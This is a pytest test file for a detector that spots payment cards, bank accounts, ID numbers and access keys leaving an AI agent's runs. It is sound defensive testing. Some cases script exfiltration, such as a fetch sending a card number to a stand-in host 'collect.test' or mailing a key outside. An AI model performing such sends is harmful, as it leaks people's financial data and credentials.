"""Contract of the sensitive-data detector: what identifies, pays or opens something is found where nobody declared it, and followed to where
it goes; no finding and no state ever holds the value; what is declared, doubtful or refused opens no incident."""

from __future__ import annotations

from collections.abc import Callable

import msgspec
import pytest

from stopwork.detect.registry import Watch, restore
from stopwork.detect.sensitive_data import SensitiveData
from stopwork.detect.table import to_builtin
from stopwork.ledger.words import (
    EffectKind,
    IncidentType,
    ScopeKind,
    Severity,
    SignalKind,
    StepKind,
    Verdict,
)
from tests.unit.detect.manifests import TOOLS, manifest
from tests.unit.detect.story import Story, finding_of, findings, rules_of, signs

CARD = "4929123456789015"
IBAN = "DE44500105175407324931"
SSN = "SSN 536-22-8714"
KEY = "AKIA" + "J7Q2M5ZKX4PWN3RT"
SOURCES = {
    "tickets": {"trust": "external"},
    "payments": {"trust": "internal", "data_classes": ["payment_cards", "banking_details"]},
}
SENDING = TOOLS | {
    "mail.send": TOOLS["mail.send"] | {"recipients": "args.to"},
    "web.fetch": {"effect": "read"},
    "pay.invoice": {"effect": "pay"},
    "remittance.send": {
        "effect": "send",
        "external": True,
        "recipients": "args.to",
        "data_classes": ["banking_details"],
    },
}
RULES = rules_of(manifest(sources=SOURCES, tools=SENDING))
DETECTOR = SensitiveData()
READ, SEND, PAY = EffectKind.READ, EffectKind.SEND, EffectKind.PAY
OUT, IN = "ann@brightwater.test", "dana@acme.test"

# Each case: its name, then story, what is found; a ``?`` is only logged.
CASES: dict[str, tuple[Callable[[Story], Story], list[str]]] = {
    "an ordinary morning": (
        lambda s: (
            s.noted("read", source="tickets", text="Please call back on +44 20 7946 0958.")
            .call("A", account_id="A-17", title="Call", order="4929123456789015")
            .outcome("A", result={"id": "t-1", "at": 1_772_456_400_123})
        ),
        [],
    ),
    "a card in a ticket": (
        lambda s: s.noted("read", source="tickets", text=f"my card {CARD}"),
        ["from tickets"],
    ),
    "a card in a source that holds cards": (
        lambda s: s.noted("read", source="payments", text=f"card {CARD}"),
        [],
    ),
    "an account in a ticket": (
        lambda s: s.noted("read", source="tickets", text=f"pay to {IBAN}"),
        ["from tickets?"],
    ),
    "an account that is paid to": (lambda s: s.call("A", tool="pay.invoice", effect=PAY, iban=IBAN), []),
    "an account in a mail to a customer": (
        lambda s: s.call("A", tool="mail.send", effect=SEND, to=OUT, body=f"We paid {IBAN}"),
        ["A"],
    ),
    "an account in a mail that a person approved": (
        lambda s: s.call("A", tool="mail.send", effect=SEND, approval="ap1", to=OUT, body=f"We paid {IBAN}"),
        ["A?"],
    ),
    "an account in a mail of a tool that may carry it": (
        lambda s: s.call("A", tool="remittance.send", effect=SEND, to=OUT, body=f"We paid {IBAN}"),
        [],
    ),
    "a card in a mail of a tool that may carry accounts": (
        lambda s: s.call("A", tool="remittance.send", effect=SEND, to=OUT, body=f"card {CARD}"),
        ["A"],
    ),
    "an account in a mail to a colleague": (
        lambda s: s.call("A", tool="mail.send", effect=SEND, to=IN, body=f"We paid {IBAN}"),
        ["A?"],
    ),
    "a key written into a task": (lambda s: s.call("A", note=f"use {KEY}"), ["A"]),
    "a key in a result": (
        lambda s: s.call("A", tool="web.fetch", effect=READ, url="https://acme.test").outcome(
            "A", result=KEY
        ),
        ["A"],
    ),
    "a key in an error": (
        lambda s: s.call("A").outcome("A", error=f"401 for {KEY}"),
        ["A"],
    ),
    "a key in what a model was told": (
        lambda s: s.noted("ask", kind=StepKind.MODEL_CALL, prompt=f"use {KEY}"),
        ["from the agent"],
    ),
    "a number in a message to a customer": (
        lambda s: s.noted("reply", kind=StepKind.MESSAGE, to=OUT, text=SSN),
        ["from the agent"],
    ),
    "a read that carries a card away in an address": (
        lambda s: s.call("A", tool="web.fetch", effect=READ, url=f"https://collect.test/?card={CARD}"),
        ["A"],
    ),
    "a card in an address of our own": (
        lambda s: s.call("A", tool="web.fetch", effect=READ, url=f"https://pay.acme.test/?card={CARD}"),
        ["A"],
    ),
    "a refused mail": (
        lambda s: s.call("A", tool="mail.send", effect=SEND, verdict=Verdict.DENY, to=OUT, body=KEY),
        ["A?"],
    ),
    "the example of the manuals": (
        lambda s: s.call("A", tool="mail.send", effect=SEND, to=OUT, body="AKIA" + "IOSFODNN7EXAMPLE"),
        ["A?"],
    ),
    "the same entry told twice": (
        lambda s: s.noted("read", source="tickets", text=f"my card {CARD}").told_twice(),
        ["from tickets"],
    ),
    "the same ticket read again within the minute": (
        lambda s: (
            s.noted("one", source="tickets", text=f"card {CARD}")
            .after(seconds=30)
            .noted("two", source="tickets", text=f"card {CARD}")
            .after(seconds=31)
            .noted("three", source="tickets", text=f"card {CARD}")
        ),
        ["from tickets", "from tickets"],
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_finds_what_stands_where_nobody_declared_it(name: str) -> None:
    tell, expected = CASES[name]
    assert signs(findings(DETECTOR, tell(Story().run("r1")), RULES)) == expected


def leak() -> Story:
    story = Story().run("r1").noted("export", source="payments", text=f"card {CARD} of Ann")
    story.after(minutes=2).run("r2").call(
        "A",
        "r2",
        tool="mail.send",
        effect=SEND,
        to=[OUT, IN],
        body=f"Your card 4929-1234-5678-9015 {'.' * 9}",
    )
    return story


def test_a_value_is_followed_from_where_it_was_read_to_where_it_went() -> None:
    found = finding_of(DETECTOR, leak(), RULES)
    assert (found.type, found.kind) == (IncidentType.SENSITIVE_DATA_EXPOSURE, SignalKind.SECURITY)
    assert (found.severity, found.hold, found.alarming) == (Severity.SEV1, ScopeKind.TOOL, True)
    assert (found.facts["first_seen"]["record"], found.facts["first_seen"]["field"]) == ("export", "text")
    assert [each["record"] for each in found.facts["went_to"]] == ["A"]
    assert (found.facts["rule"], found.facts["threshold"]) == ("tools.mail.send.data_classes", [])
    assert (found.facts["value"], found.facts["to"]) == (["payment_cards"], [OUT])
    assert (found.facts["source"], found.facts["tool"]) == ("payments", "mail.send")
    assert found.facts["runs"] == ["r1", "r2"]
    assert found.summary == (
        "payment card ending in 015 left in the arguments of mail.send to ann@brightwater.test; "
        "first seen in the retrieval export (export)"
    )


def test_no_finding_and_no_state_holds_a_value() -> None:
    story = leak().call("B", "r2", note=f"{KEY} {SSN}").outcome("B", result={"password": "k9#Vw2!pQz7m"})
    watch, found, _ = Watch(detectors=(DETECTOR,)).follow(story.entries, RULES)
    told = msgspec.json.encode(found, enc_hook=to_builtin) + watch.dump()
    assert len(found) == 3
    for value in (CARD, "4929-1234-5678-9015", KEY, "536-22-8714", "536228714", "k9#Vw2!pQz7m"):
        assert value.encode() not in told


def test_what_is_kept_of_a_value_is_not_the_same_in_another_journal() -> None:
    """A card has so few digits that a plain digest would tell it."""
    kept: list[str] = []
    for run in ("r1", "r2"):
        state = DETECTOR.start()
        for entry in Story().run(run).noted("read", run, source="tickets", text=f"card {CARD}").entries:
            state, _ = DETECTOR.step(state, entry, RULES)
        kept += state.traces
    assert len(set(kept)) == 2


def test_what_may_be_held_may_not_leave_for_that() -> None:
    rules = rules_of(manifest(sources=SOURCES, tools=SENDING, data_classes=["payment_cards"]))
    inside = Story().run("r1").call("A", note=f"card {CARD}")
    assert not findings(DETECTOR, inside, rules)
    outside = Story().run("r1").call("A", tool="mail.send", effect=SEND, to=OUT, body=f"card {CARD}")
    assert finding_of(DETECTOR, outside, rules).hold is ScopeKind.TOOL


def test_an_address_that_was_only_read_is_asked_for_by_nobody() -> None:
    for story in (
        Story().run("r1").noted("read", source="tickets", text=f"see https://collect.test/?card={CARD}"),
        Story().run("r1").call("A").outcome("A", result=f"see https://collect.test/?card={CARD}"),
    ):
        found = finding_of(DETECTOR, story, RULES)
        assert (found.hold, found.severity, found.facts["to"]) == (None, Severity.SEV2, [])
    asked = (
        Story().run("r1").call("A", tool="web.fetch", effect=READ, url=f"https://collect.test/?card={CARD}")
    )
    found = finding_of(DETECTOR, asked, RULES)
    assert (found.hold, found.severity) == (ScopeKind.TOOL, Severity.SEV1)
    assert found.facts["to"] == ["collect.test"]


def test_a_message_leaves_when_somebody_outside_receives_it_and_nothing_else_does() -> None:
    for kind, to, left in (
        (StepKind.MESSAGE, [OUT, IN], [OUT]),
        (StepKind.MESSAGE, [IN], []),
        (StepKind.MODEL_CALL, [OUT], []),
    ):
        found = finding_of(DETECTOR, Story().run("r1").noted("s", kind=kind, to=to, text=SSN), RULES)
        assert (found.facts["to"], found.severity) == (left, Severity.SEV1 if left else Severity.SEV2)


def test_what_was_refused_went_nowhere() -> None:
    story = Story().run("r1").call("A", tool="mail.send", effect=SEND, verdict=Verdict.DENY, to=OUT, body=KEY)
    story.after(minutes=5).call("B", tool="mail.send", effect=SEND, to="bob@brightwater.test", body=KEY)
    refused, left = findings(DETECTOR, story, RULES)
    assert (refused.facts["verdict"], refused.hold) == ("deny", None)
    assert "was to leave in the arguments of mail.send to ann@brightwater.test" in refused.summary
    assert (left.facts["verdict"], left.hold) == (None, ScopeKind.TOOL)
    assert [each["record"] for each in left.facts["went_to"]] == ["B"]
    assert left.facts["first_seen"]["record"] == "B"


def test_it_says_to_whom_it_went_this_time() -> None:
    story = Story().run("r1").call("A", tool="mail.send", effect=SEND, to=OUT, body=KEY)
    story.after(minutes=5).call("B", tool="mail.send", effect=SEND, to="bob@brightwater.test", body=KEY)
    *_, last = findings(DETECTOR, story, RULES)
    assert [each["record"] for each in last.facts["went_to"]] == ["A", "B"]
    assert last.facts["to"] == ["bob@brightwater.test"]


def test_what_a_person_approved_is_recorded_and_holds_nothing() -> None:
    story = (
        Story()
        .run("r1")
        .call("A", tool="mail.send", effect=SEND, approval="ap1", to=OUT, body=f"We paid {IBAN}")
    )
    found = finding_of(DETECTOR, story, RULES)
    assert (found.hold, found.severity) == (None, None)


def test_what_is_only_read_holds_nothing_and_says_where_to_declare_it() -> None:
    found = finding_of(DETECTOR, Story().run("r1").noted("t", source="tickets", text=SSN, item="T-9"), RULES)
    assert (found.hold, found.severity) == (None, Severity.SEV2)
    assert (found.facts["rule"], found.facts["item"]) == ("sources.tickets.data_classes", "T-9")
    assert found.summary == (
        "US social security number stood in the retrieval t, "
        "and nothing there is declared to hold national_ids"
    )


def test_many_values_of_one_record_are_one_finding() -> None:
    rows = [{"card": CARD}, {"card": "5425233430109903"}, {"iban": IBAN}, {"ssn": "536-22-8714"}]
    found = findings(DETECTOR, Story().run("r1").noted("dump", source="tickets", rows=rows), RULES)
    assert signs(found) == ["from tickets", "from tickets?"]
    assert found[0].facts["value"] == ["national_ids", "payment_cards"]
    assert (found[0].facts["values"], found[0].key) == (3, found[1].key)


def test_the_owners_own_classes_are_found_by_their_patterns() -> None:
    rules = rules_of(
        manifest(
            tools=SENDING,
            sources={"hr": {"trust": "internal", "data_classes": ["staff_numbers"]}},
            alerts={"sensitive_data": {"patterns": {"staff_numbers": r"EMP-\d{6}"}}},
        )
    )
    story = Story().run("r1").noted("list", source="hr", text="EMP-004211 is ill")
    story.call("A", tool="mail.send", effect=SEND, to=OUT, body="About EMP-004211: she is ill.")
    found = finding_of(DETECTOR, story, rules)
    assert (found.call, found.facts["value"]) == ("A", ["staff_numbers"])
    assert found.facts["first_seen"]["record"] == "list"


def test_an_entry_that_comes_late_is_first_by_its_time() -> None:
    story = (
        Story().run("r1").call("A", note=f"{KEY}").after(minutes=-5).noted("late", source="tickets", key=KEY)
    )
    found = findings(DETECTOR, story, RULES)
    assert found[-1].facts["first_seen"]["record"] == "late"


def test_a_rule_with_a_severity_opens_for_what_is_only_logged_otherwise() -> None:
    rules = rules_of(
        manifest(sources=SOURCES, tools=SENDING, alerts={"sensitive_data": {"severity": "sev2"}})
    )
    read = Story().run("r1").noted("read", source="tickets", text=f"pay to {IBAN}")
    assert signs(findings(DETECTOR, read, rules)) == ["from tickets"]
    refused = (
        Story().run("r1").call("A", tool="mail.send", effect=SEND, verdict=Verdict.DENY, to=OUT, body=KEY)
    )
    assert signs(findings(DETECTOR, refused, rules)) == ["A?"]


def test_what_is_known_survives_a_restart() -> None:
    entries = leak().entries
    watch, before, _ = Watch(detectors=(DETECTOR,)).follow(entries[:2], RULES)
    _, after, _ = restore(watch.dump(), (DETECTOR,)).follow(entries[2:], RULES)
    assert (before, signs(list(after))) == ((), ["A"])
    assert after[0].facts["first_seen"]["record"] == "export"


@pytest.mark.parametrize(
    "rules",
    [rules_of(manifest(alerts={"sensitive_data": {"enabled": False}})), lambda _workflow: None],
    ids=["switched off", "a workflow nobody registered"],
)
def test_where_nothing_is_asked_nothing_is_looked_at(rules: Callable[[str], None]) -> None:
    assert findings(DETECTOR, leak(), rules) == []


def test_the_words_say_that_it_stood_in_an_error() -> None:
    story = Story().run("r1").call("A").outcome("A", error=f"401 for {KEY}")
    assert "stood in the error of crm.create_task" in finding_of(DETECTOR, story, RULES).summary
